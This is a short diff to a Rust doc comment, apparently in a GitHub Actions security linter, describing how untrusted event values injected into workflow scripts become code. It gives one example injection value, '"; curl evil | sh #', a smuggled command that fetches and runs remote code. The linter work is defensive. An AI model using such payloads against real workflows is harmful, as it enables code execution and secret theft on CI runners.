@@ -3,7 +3,7 @@
 //! input that another action runs as code (yq and jq commands, SSH and Azure CLI scripts,
 //! docker-run commands, backport templates). The value may come straight from the event
 //! (`github.event.issue.title`, `github.head_ref`), or through `env:`, step and job outputs,
-//! matrix values and string inputs ([`super::taint`]). The expression is pasted into the
+//! matrix values and free-text `workflow_dispatch` inputs ([`super::taint`]). The expression is pasted into the
 //! script before it runs, so a title like `"; curl evil | sh #` is code. An expression that
 //! can only yield `true` or `false` is harmless and not reported.
 
